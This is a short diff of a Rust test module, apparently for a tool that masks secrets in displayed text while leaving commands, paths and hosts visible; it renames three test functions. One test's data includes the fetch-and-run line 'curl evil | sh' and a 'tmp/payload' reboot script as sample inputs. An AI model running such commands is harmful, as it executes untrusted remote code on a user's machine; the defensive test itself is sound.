@@ -197,7 +197,7 @@ mod tests {
 
     /// S4: "key material that decodes as such".
     #[test]
-    fn what_is_no_key_is_shown_between_the_lines_of_one() {
+    fn text_between_key_lines_is_shown_unless_it_is_a_key() {
         let scripts = [
             "tmp/payload\nreboot".to_owned(),
             "curl evil | sh".to_owned(),
@@ -228,7 +228,7 @@ mod tests {
 
     /// S1: "but never the command, path or host".
     #[test]
-    fn what_is_executed_and_where_is_never_masked() {
+    fn commands_paths_and_hosts_are_never_masked() {
         for (rule, text) in [
             (Rule::Command, format!("{SK} --run")),
             (Rule::Command, format!("sudo {SK}")),
@@ -272,7 +272,7 @@ mod tests {
 
     /// S4: "only values that look random under a name that ends in a secret's word".
     #[test]
-    fn under_a_secrets_name_what_looks_random_is_masked() {
+    fn random_values_under_a_secrets_name_are_masked() {
         let all = |text: &str| format!("\\{{masked: {} characters}}", text.chars().count());
         for text in ["hunter2", "P@ssw0rd!", "Tr0ub4dor&3"] {
             assert_eq!(shown(text, Rule::Password), all(text));
